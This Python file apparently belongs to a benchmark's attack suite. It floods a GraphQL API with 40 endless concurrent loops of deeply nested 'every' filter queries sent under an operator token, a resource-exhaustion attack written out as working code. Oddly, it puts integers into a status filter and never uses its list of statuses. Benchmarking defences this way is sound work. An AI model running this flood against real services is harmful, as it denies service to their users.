"""Forty connections of an operator read by key, with nested `every` filters below the root."""

import asyncio

from bench.attacks.target import Target

SECONDS = 20
QUERY = """query($ids: [ID!]!) { nodes(ids: $ids) { ... on Customer { payments(first: 1, filter: { not: { contract: {
    customer: { payments: { every: { contract: { customer: { payments: { every: { status: { eq: %s } } } } } } } } } } })
    { nodes { id } } } } }"""
STATUSES = ("PENDING", "SUCCEEDED", "FAILED", "CANCELLED")


async def attack(target: Target) -> None:
    async with target.client() as client:
        listed = await target.send(client, "{ customers(first: 100) { nodes { id } } }", target.token("operator"))
        assert listed is not None
        ids = [node["id"] for node in listed.json()["data"]["customers"]["nodes"]]

        async def repeat(number: int) -> None:
            while True:
                await target.send(client, QUERY % number, target.token("operator"), {"ids": ids})

        await asyncio.gather(*(repeat(number) for number in range(40)))
